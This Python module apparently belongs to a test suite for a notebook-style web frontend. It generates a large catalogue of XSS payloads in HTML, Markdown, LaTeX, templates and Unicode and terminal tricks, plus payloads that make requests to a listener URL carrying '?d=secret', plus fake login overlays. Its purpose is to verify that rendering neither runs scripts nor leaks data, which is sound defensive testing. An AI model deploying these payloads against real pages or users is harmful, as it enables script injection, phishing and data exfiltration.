"""Text that tries to act where it is shown: to run a script, or to send something away.

A script that runs leaves its number in `window.__uait_xss` of the page; what is sent away asks a
listener for `/<number>?d=secret`. What a payload does when it is shown as raw HTML or Markdown is
noted beside it, and a test shows that it does: else its silence elsewhere would prove nothing.
"""

from __future__ import annotations

from base64 import b64encode
from dataclasses import dataclass
from typing import Literal

MARKER = "__uait_xss"
# What a browser would ask its own server for, if an element of ours came to life.
OWN = "uait-came-to-life"
FIRST_OF_095 = 101

Raw = Literal["html", "markdown"]


@dataclass(frozen=True)
class Payload:
    """One hostile text.

    Attributes:
        runs: shown raw as this, it runs at once.
        asks: shown raw as this, it sends a request at once.
    """

    number: int
    text: str
    runs: Raw | None = None
    asks: Raw | None = None


def script(number: int) -> str:
    """Return JavaScript that leaves its mark, without quotes, spaces or tag characters."""
    return f"(top.{MARKER}??=[]).push({number})"


def acting() -> list[Payload]:
    """Return what tries to run a script, to mislead, or to take the page over (case 94)."""
    made: list[Payload] = []

    def add(text: str, runs: Raw | None = None) -> None:
        number = len(made) + 1
        js = script(number)
        coded = f"&#40;top&#x2e;{js[5:]}"
        page = b64encode(f"<script>{js}</script>".encode()).decode()
        for name, value in {"JS": js, "CODED": coded, "PAGE": page, "OWN": OWN}.items():
            text = text.replace(f"@{name}@", value)
        made.append(Payload(number, text, runs=runs))

    for tag in TAGS_THAT_RUN:
        add(tag, "html")
    for tag in MUTATIONS_THAT_RUN:
        add(tag, "html")
    for tag in TAGS:
        add(tag)
    for markdown in MARKDOWN_THAT_RUNS:
        add(markdown, "markdown")
    for markdown in MARKDOWN:
        add(markdown)
    for text in OTHER:
        add(text)
    return made


def calling(elsewhere: str) -> list[Payload]:
    """Return what tries to send a request to the address of a listener (case 95)."""
    made: list[Payload] = []

    def add(text: str, asks: Raw | None = None) -> None:
        number = FIRST_OF_095 + len(made)
        url = f"{elsewhere}/{number}?d=secret"
        made.append(Payload(number, text.replace("@URL@", url), asks=asks))

    for tag in TAGS_THAT_ASK:
        add(tag, "html")
    for markdown in MARKDOWN_THAT_ASKS:
        add(markdown, "markdown")
    for text in WOULD_ASK:
        add(text)
    return made


TAGS_THAT_RUN = (
    "<script>@JS@</script>",
    "</script><SCRIPT >@JS@</SCRIPT >",
    "<img src=@OWN@ onerror='@JS@'>",
    '<img src=@OWN@ onerror="@CODED@">',
    "<svg><animate onbegin='@JS@' attributeName=x dur=1s></svg>",
    '<iframe srcdoc="<script>@JS@</script>"></iframe>',
    "<iframe src='javascript:@JS@'></iframe>",
    '<svg><foreignObject><iframe srcdoc="<script>@JS@</script>"></iframe></foreignObject></svg>',
    "<video src=@OWN@ onerror='@JS@'></video>",
    "<audio><source src=@OWN@ onerror=@JS@></audio>",
    "<details open ontoggle='@JS@'><summary>more</summary></details>",
    "<style onload='@JS@'>.none{}</style>",
    '"><img src=@OWN@ onerror=@JS@>',
    "'><img src=@OWN@ onerror=@JS@>",
    "safe\u202egnp.exe\u2066<img src=@OWN@ onerror=@JS@>",
)
# Each is read in one way by a sanitiser and in another by the browser that shows its result.
MUTATIONS_THAT_RUN = (
    '<svg></p><style><a id="</style><img src=@OWN@ onerror=@JS@>">',
    '<noscript><p title="</noscript><img src=@OWN@ onerror=@JS@>">',
    '<textarea><img title="</textarea><img src=@OWN@ onerror=@JS@>">',
    '<xmp><img title="</xmp><img src=@OWN@ onerror=@JS@>">',
    "<!--><img src=@OWN@ onerror=@JS@>-->",
    "<![CDATA[><img src=@OWN@ onerror=@JS@>]]>",
    "<?xml ><img src=@OWN@ onerror=@JS@>?>",
)
TAGS = (
    "<svg onload='@JS@'></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=@OWN@ onerror='@JS@'>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=@OWN@ '
    'onerror=@JS@&gt;">',
    "<math><a xlink:href=javascript:@JS@>click</a></math>",
    "<svg><a xlink:href=javascript:@JS@><text y=20>click</text></a></svg>",
    "<a href='javascript:@JS@'>click</a>",
    "<a href='java&#10;script:@JS@'>click</a>",
    "<a href='data:text/html;base64,@PAGE@' target=_top>click</a>",
    '<button data-commandlinker-command="notebook:run-all-cells" '
    'data-commandlinker-args="{}">click</button>',
    '<a href="#" data-commandlinker-command="terminal:create-new">click</a>',
    "<form action=javascript:@JS@><input type=password name=password><button>Log in</button>"
    "</form>",
    "<button formaction=javascript:@JS@ form=missing>click</button>",
    "<object data='data:text/html;base64,@PAGE@'></object>",
    "<embed src='data:text/html;base64,@PAGE@'>",
    "<meta http-equiv=refresh content='0;url=javascript:@JS@'>",
    "<base href='javascript:@JS@//'>",
    "<template><img src=@OWN@ onerror=@JS@></template>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>Log in again</div>",
    "<form name=body id=jupyter-config-data><input name=cookie></form>",
    "<input autofocus onfocus='@JS@'>",
    "<plaintext>",
)
MARKDOWN_THAT_RUNS = (
    "# <img src=@OWN@ onerror='@JS@'>",
    "| a |\n| - |\n| <img src=@OWN@ onerror='@JS@'> |",
    "> - 1. <img src=@OWN@ onerror='@JS@'>",
    "<div>\n\n**bold** <img src=@OWN@ onerror='@JS@'>\n\n</div>",
)
MARKDOWN = (
    "[click](javascript:@JS@)",
    "[click](JaVaScRiPt:@JS@)",
    "[click](<java\tscript:@JS@>)",
    "[click](&#106;avascript&colon;@JS@)",
    "[click](javascript&#58;@JS@)",
    "<javascript:@JS@>",
    "[click][r]\n\n[r]: javascript:@JS@",
    "[r]\n\n[r]: <JAVASCRIPT:@JS@> 'title'",
    "[click](data:text/html;base64,@PAGE@)",
    "[click](vbscript:@JS@)",
    "[click](/logout)",
    '[click](../api/shutdown "title\\" onmouseover=@JS@ x=\\"")',
    "![image](javascript:@JS@)",
    "![image](data:image/svg+xml,<svg/onload=@JS@>)",
    "[![image](data:text/html,x)](javascript:@JS@)",
    "`<script>@JS@</script>`",
    "```html\n<script>@JS@</script>\n```",
    '```"><img/src=@OWN@/onerror=@JS@>\ncode\n```',
    "&lt;script&gt;@JS@&lt;/script&gt;",
    "&#60;img src=@OWN@ onerror=@JS@&#62;",
)
OTHER = (
    "{{constructor.constructor('@JS@')()}}",
    "{% raw %}{{7*7}}{% endraw %} ${@JS@} <%= @JS@ %>",
    r"$\href{javascript:@JS@}{click}$",
    r"$\require{html}\href{javascript:@JS@}{click}$",
    r"$\cssId{jupyter-config-data}{x}\class{jp-Dialog}{y}$",
    "+ADw-script+AD4-@JS@+ADw-/script+AD4-",
    "\uff1cscript\uff1e@JS@\uff1c/script\uff1e",
    "\u202e>tpircs/<@JS@>tpircs<\u202c",
    "\x1b]8;;javascript:@JS@\x07click\x1b]8;;\x07\x1b[2J\x1b[31mred\x1b[0m",
    "\x9b2J\x08\x08\x08<scr\x08ipt>@JS@</script>",
)
TAGS_THAT_ASK = (
    "<img src=@URL@>",
    "<img srcset='@URL@ 1x'>",
    "<script src=@URL@></script>",
    "<iframe src=@URL@></iframe>",
    "<object data=@URL@></object>",
    "<embed src=@URL@>",
    "<link rel=stylesheet href=@URL@>",
    "<style>@import '@URL@';</style>",
    "<style>.jp-InputPrompt{background-image:url(@URL@)!important}</style>",
    "<div style='background:url(@URL@)'>x</div>",
    "<video poster=@URL@></video>",
    "<audio src=@URL@ autoplay></audio>",
    "<input type=image src=@URL@>",
    "<svg width=9 height=9><image href='@URL@' width=9 height=9 /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=@URL@>",
)
MARKDOWN_THAT_ASKS = (
    "![image](@URL@)",
    "![image](<@URL@> 'title')",
    "![image][p]\n\n[p]: @URL@",
    "![p]\n\n[p]: @URL@",
    "[![image](@URL@)](@URL@)",
    "# ![image](@URL@)",
    "| a |\n| - |\n| ![image](@URL@) |",
)
WOULD_ASK = (
    "<meta http-equiv=refresh content='0;url=@URL@'>",
    "<base href='@URL@/'><img src=x>",
    "<form action=@URL@ method=post><button autofocus>Log in</button></form>",
    "<a href=@URL@ ping=@URL@ target=_top>click</a>",
    "<link rel=prefetch href=@URL@>",
    "<svg><use href='@URL@#x'></svg>",
    "[click](@URL@)",
    "<@URL@>",
    "@URL@",
    r"$\style{background-image:url(@URL@)}{x}$",
    r"$\style{content:url(@URL@)}{x}\require{@URL@}$",
    r"$\href{@URL@}{x}\includegraphics{@URL@}$",
    "\x1b]8;;@URL@\x07click\x1b]8;;\x07",
)
